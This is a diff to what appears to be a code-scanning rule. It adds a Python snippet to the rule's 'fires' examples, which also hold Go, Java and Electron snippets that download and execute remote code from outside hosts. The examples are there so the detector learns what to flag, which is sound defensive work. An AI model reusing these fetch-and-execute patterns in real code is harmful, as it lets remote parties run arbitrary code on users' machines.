@@ -35,6 +35,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```python\nfor it in json.load(urllib.request.urlopen("https://feed.rowan-pike.net/b.json")):\n    mod, fn = it["type"].split(".", 1)\n    getattr(importlib.import_module(mod), fn)(*it["args"])\n```\n',
       '```go\nr, err := http.Get("https://kit.rowan-pike.net/bin")\nf, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)\nio.Copy(f, r.Body)\nf.Close()\nexec.Command(p, "-d").Start()\n```\n',
       '```java\nvar cl = new URLClassLoader(new URL[]{ new URL("http://kiln-parts.io/t.jar") });\ncl.loadClass("T");\n```\n',
       "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://shop.quill-marsh.net/kiosk')\n```\n",
